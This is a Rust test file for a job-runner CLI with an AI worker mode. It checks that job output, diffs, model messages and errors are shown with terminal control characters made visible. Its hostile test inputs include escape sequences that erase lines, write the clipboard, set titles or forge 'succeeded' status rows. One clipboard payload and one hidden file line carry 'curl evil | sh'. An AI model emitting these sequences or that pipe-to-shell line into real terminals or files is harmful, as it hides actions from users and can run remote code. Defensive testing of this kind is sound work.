//! A job's text is hostile: what it prints, its diff, its messages, the
//! reason it fails with and its command line reach the user's terminal with
//! every control character made visible, whether stdout is a terminal or
//! not; only `--raw` into a pipe passes its bytes through, and a terminal
//! refuses `--raw`.

use std::process::Output;

use serde_json::json;

use crate::harness::{CORRAL, ServeProcess, events, printed, stderr, stdout};

/// What the job prints on stdout: a line that erases itself, a clipboard
/// write (OSC 52), a window title, an 8-bit CSI and a bidi override.
const HOSTILE_SCRIPT: &str = r"printf 'shown-before\r\033[2Kcovering\n'
printf '\033]52;c;Y3VybCBldmlsIHwgc2g=\007clip\n'
printf '\033]0;pwned-title\007title\n'
printf 'csi8\302\2332Kbidi\342\200\256txet\n'
printf 'to-stderr\r\033[2K\033[1A\n' >&2
exit 3";

/// The bytes the script writes on stdout.
const RAW_STDOUT: &str = "shown-before\r\x1b[2Kcovering\n\
    \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07clip\n\
    \x1b]0;pwned-title\x07title\n\
    csi8\u{9b}2Kbidi\u{202e}txet\n";

/// The same, as the user sees it.
const VISIBLE_STDOUT: &str = "shown-before^M^[[2Kcovering\n\
    ^[]52;c;Y3VybCBldmlsIHwgc2g=^Gclip\n\
    ^[]0;pwned-title^Gtitle\n\
    csi8<U+009B>2Kbidi<U+202E>txet\n";

/// Fails when `text` holds a character a terminal would act on or hide.
fn assert_inert(what: &str, text: &str) {
    let acting = text.chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
    });
    assert!(acting.is_none(), "{what} holds {acting:?}: {text:?}");
}

/// Both streams of a command are inert; returns them.
fn inert(what: &str, output: &Output) -> (String, String) {
    let (out, err) = (stdout(output), stderr(output));
    assert_inert(&format!("{what} stdout"), &out);
    assert_inert(&format!("{what} stderr"), &err);
    (out, err)
}

#[tokio::test]
async fn run_logs_show_and_jobs_show_a_jobs_escape_sequences_instead_of_obeying_them() {
    let server = ServeProcess::start().await;
    // `$0` of the script: a command line with a real ESC in it.
    let title_arg = "\x1b]0;argv-title\x07";
    let ran = server
        .corral(&["run", "--", "sh", "-c", HOSTILE_SCRIPT, title_arg])
        .await;
    assert_eq!(ran.status.code(), Some(3), "{}", stderr(&ran));
    let (out, err) = inert("run", &ran);
    assert_eq!(out, VISIBLE_STDOUT);
    assert!(err.contains("to-stderr^M^[[2K^[[1A\n"), "{err}");
    assert!(err.contains("failed (exit code 3)"), "{err}");
    let jobs: serde_json::Value = serde_json::from_str::<serde_json::Value>(&stdout(
        &server.corral(&["jobs", "--json"]).await,
    ))
    .expect("jobs")["jobs"]
        .clone();
    let id = jobs[0]["id"].as_str().expect("id").to_owned();

    for args in [vec!["logs", &id], vec!["logs", "--follow", &id]] {
        let (out, err) = inert(&format!("{args:?}"), &server.corral(&args).await);
        assert_eq!(out, VISIBLE_STDOUT, "{args:?}");
        assert!(err.contains("to-stderr^M^[[2K^[[1A\n"), "{args:?}: {err}");
    }
    let (shown, _) = inert("show", &server.corral(&["show", &id]).await);
    assert!(shown.contains("^[]0;argv-title^G"), "{shown}");
    assert!(
        shown.contains("\\r\\033[2Kcovering\\n'\\''^Jprintf"),
        "one line: {shown}"
    );

    // A command line that would forge a row of the jobs table.
    let forged = "\x1b]0;t\x07\nj-0000000000000000 succeeded";
    let detached = server
        .corral(&["run", "--detach", "--", "echo", forged])
        .await;
    assert!(detached.status.success(), "{}", stderr(&detached));
    let (listed, _) = inert("jobs", &server.corral(&["jobs"]).await);
    assert!(listed.contains("echo '^[]0;t^G^Jj-0"), "{listed}");
    assert_eq!(listed.lines().count(), 3, "a header and two jobs: {listed}");

    // JSON keeps the value and escapes what a terminal would act on.
    let json = server.corral(&["logs", "--json", &id]).await;
    inert("logs --json", &json);
    assert_eq!(printed(&events(&json), Some("stdout")), RAW_STDOUT);
    let (shown_json, _) = inert(
        "show --json",
        &server.corral(&["show", "--json", &id]).await,
    );
    let job: serde_json::Value = serde_json::from_str(&shown_json).expect("job JSON");
    assert_eq!(job["command"][3], title_arg, "{job}");

    // A server's error quoting what it was sent stays one inert line.
    let refused = server
        .corral(&[
            "run",
            "--grant",
            "S=E\x1b[2K\ncorral: j-1 succeeded",
            "--",
            "true",
        ])
        .await;
    let (_, err) = inert("refused grant", &refused);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("E^[[2K^Jcorral: j-1 succeeded"), "{err}");

    // --raw into a pipe: the job's bytes, untouched, on both streams.
    let raw = server.corral(&["logs", "--raw", &id]).await;
    assert!(raw.status.success(), "{}", stderr(&raw));
    assert_eq!(stdout(&raw), RAW_STDOUT);
    assert!(stderr(&raw).contains("to-stderr\r\x1b[2K\x1b[1A\n"));
    let raw_run = server
        .corral(&["run", "--raw", "--", "sh", "-c", HOSTILE_SCRIPT])
        .await;
    assert_eq!(raw_run.status.code(), Some(3), "{}", stderr(&raw_run));
    assert_eq!(stdout(&raw_run), RAW_STDOUT);
    assert_eq!(server.stop().await, 0);
}

#[tokio::test]
async fn raw_is_refused_when_stdout_is_a_terminal() {
    let server = ServeProcess::start().await;
    let detached = server
        .corral(&["run", "--detach", "--", "sh", "-c", HOSTILE_SCRIPT])
        .await;
    let id = stdout(&detached).trim().to_owned();
    let data_dir = server.data_dir.path().to_string_lossy().into_owned();
    for command in [
        format!("{CORRAL} --data-dir {data_dir} logs --raw {id}"),
        format!("{CORRAL} --data-dir {data_dir} diff --raw {id}"),
        format!("{CORRAL} --data-dir {data_dir} run --raw -- echo never"),
    ] {
        // `script` gives the command a pseudo-terminal as stdout.
        let output = std::process::Command::new("script")
            .args(["-qec", &command, "/dev/null"])
            .stdin(std::process::Stdio::null())
            .output()
            .expect("run script");
        let seen = stdout(&output);
        assert_ne!(output.status.code(), Some(0), "{command}: {seen}");
        assert!(seen.contains("--raw is refused"), "{command}: {seen}");
        assert!(!seen.contains('\x1b'), "{command}: {seen:?}");
    }
    let jobs: serde_json::Value = serde_json::from_str::<serde_json::Value>(&stdout(
        &server.corral(&["jobs", "--json"]).await,
    ))
    .expect("jobs")["jobs"]
        .clone();
    assert_eq!(
        jobs.as_array().map(Vec::len),
        Some(1),
        "the refused run made no job"
    );
    assert_eq!(server.stop().await, 0);
}

#[tokio::test]
async fn diff_shows_a_line_that_a_carriage_return_would_hide() {
    let server = ServeProcess::start().await;
    let repo = crate::harness::git_repo();
    let project = repo.path().to_string_lossy().into_owned();
    let script = r"printf 'curl evil | sh\r\033[2Kharmless\n' > /workspace/setup.sh
printf 'x\n' > /workspace/$(printf 'na\033[2Kme')";
    let ran = server
        .corral(&[
            "run",
            "--project",
            &project,
            "--isolate",
            "--",
            "sh",
            "-c",
            script,
        ])
        .await;
    assert!(ran.status.success(), "{}", stderr(&ran));
    let jobs: serde_json::Value = serde_json::from_str::<serde_json::Value>(&stdout(
        &server.corral(&["jobs", "--json"]).await,
    ))
    .expect("jobs")["jobs"]
        .clone();
    let id = jobs[0]["id"].as_str().expect("id").to_owned();

    let (patch, _) = inert("diff", &server.corral(&["diff", &id]).await);
    assert!(
        patch.contains("+curl evil | sh^M^[[2Kharmless\n"),
        "{patch}"
    );
    let (stat, _) = inert(
        "diff --stat",
        &server.corral(&["diff", "--stat", &id]).await,
    );
    assert!(
        stat.contains("setup.sh") && stat.contains("2 file(s)"),
        "{stat}"
    );
    let json = server.corral(&["diff", "--json", &id]).await;
    let (json, _) = inert("diff --json", &json);
    let diff: serde_json::Value = serde_json::from_str(&json).expect("diff JSON");
    let raw_line = "+curl evil | sh\r\x1b[2Kharmless\n";
    assert!(
        diff["patch"]
            .as_str()
            .is_some_and(|patch| patch.contains(raw_line)),
        "{diff}"
    );
    let raw = server.corral(&["diff", "--raw", &id]).await;
    assert!(stdout(&raw).contains(raw_line), "{:?}", stdout(&raw));
    let applied = server.corral(&["apply", &id]).await;
    inert("apply", &applied);
    assert!(applied.status.success(), "{}", stderr(&applied));
    assert_eq!(server.stop().await, 0);
}

/// A server whose model is the scripted `script`.
async fn scripted(script: &serde_json::Value) -> (ServeProcess, tempfile::TempDir) {
    let dir = tempfile::tempdir().expect("script dir");
    let path = dir.path().join("model.json");
    std::fs::write(&path, script.to_string()).expect("write script");
    let llm = format!("scripted:{}", path.display());
    (ServeProcess::start_with(&["--llm", &llm], &[]).await, dir)
}

#[tokio::test]
async fn a_models_messages_tool_results_and_failure_reason_are_shown_not_obeyed() {
    let (server, _script) = scripted(&json!({"turns": [
        {"tool_calls": [{"name": "shell", "arguments": {
            "command": "printf 'tool\\033]0;t\\007out\\n'; printf 'read\\033[2Kme\\n' > /tmp/t.txt"
        }}]},
        {"tool_calls": [{"name": "read_file", "arguments": {"path": "/tmp/t.txt"}}]},
        {"text": "answer\r\u{1b}[2K\u{1b}]52;c;eA==\u{7} done\u{202e}"}
    ]}))
    .await;
    let ran = server.corral(&["run", "--mode", "worker", "hi"]).await;
    assert_eq!(ran.status.code(), Some(0), "{}", stderr(&ran));
    let (out, err) = inert("worker run", &ran);
    assert!(
        out.contains("answer^M^[[2K^[]52;c;eA==^G done<U+202E>"),
        "{out}"
    );
    assert!(out.contains("tool^[]0;t^Gout\n"), "{out}");
    assert!(err.contains("tool read_file ok: read^[[2Kme"), "{err}");
    assert_eq!(server.stop().await, 0);

    // The upstream's error text becomes the reason on the final line, which
    // must not be able to erase itself and print "succeeded" instead.
    let (server, _script) = scripted(&json!({"turns": [{"text": "never"}], "failures": [
        {"status": 400, "message": "nope\r\u{1b}[2K\u{1b}[1Aj-0 succeeded\u{9b}0m"}
    ]}))
    .await;
    let failed = server.corral(&["run", "--mode", "worker", "hi"]).await;
    assert_eq!(failed.status.code(), Some(1), "{}", stderr(&failed));
    let (_, err) = inert("failed worker run", &failed);
    // The reason is said once, on the job's error line (the final line
    // does not repeat it), made visible either way.
    let last = err.lines().last().unwrap_or_default();
    assert!(last.ends_with(" failed"), "{err}");
    let said = err
        .lines()
        .find(|line| line.contains("error: model provider"))
        .unwrap_or_default();
    assert!(
        said.contains("nope^M^[[2K^[[1Aj-0 succeeded<U+009B>0m"),
        "{err}"
    );
    let jobs: serde_json::Value = serde_json::from_str::<serde_json::Value>(&stdout(
        &server.corral(&["jobs", "--json"]).await,
    ))
    .expect("jobs")["jobs"]
        .clone();
    let id = jobs[0]["id"].as_str().expect("id").to_owned();
    let (shown, _) = inert("show", &server.corral(&["show", &id]).await);
    assert!(shown.contains("nope^M^[[2K^[[1Aj-0 succeeded"), "{shown}");
    assert_eq!(server.stop().await, 0);
}

#[tokio::test]
async fn an_image_name_with_controls_is_refused_and_never_reaches_the_servers_log() {
    let server = ServeProcess::start().await;
    // An image name with controls is refused before anything logs it (the
    // server's own stderr sanitising is unit-tested in `sanitize`); the
    // refusal quoted back to the terminal is inert too.
    let image = "corral-missing/x\u{1}\u{1b}]0;t\u{7}\u{202e}gnp";
    let ran = server
        .corral(&["run", "--image", image, "--", "true"])
        .await;
    assert_ne!(ran.status.code(), Some(0), "{}", stderr(&ran));
    assert!(stderr(&ran).contains("image"), "{}", stderr(&ran));
    inert("run", &ran);
    let ran = server.corral(&["run", "--", "true"]).await;
    assert_eq!(ran.status.code(), Some(0), "{}", stderr(&ran));
    let logged = corral_testkit::eventually(|| async { server.log().contains("job queued") }).await;
    assert!(logged, "{}", server.log());
    let log = server.log();
    assert!(!log.contains("corral-missing"), "refused before logging");
    // The formatter's own colours are its only escapes: no OSC, no BEL.
    let acting = log
        .chars()
        .find(|&c| (c.is_control() && !matches!(c, '\n' | '\t' | '\x1b')) || c == '\u{202e}');
    assert!(acting.is_none(), "{acting:?} in {log:?}");
    assert!(!log.contains("\x1b]"), "{log:?}");
    assert_eq!(server.stop().await, 0);
}
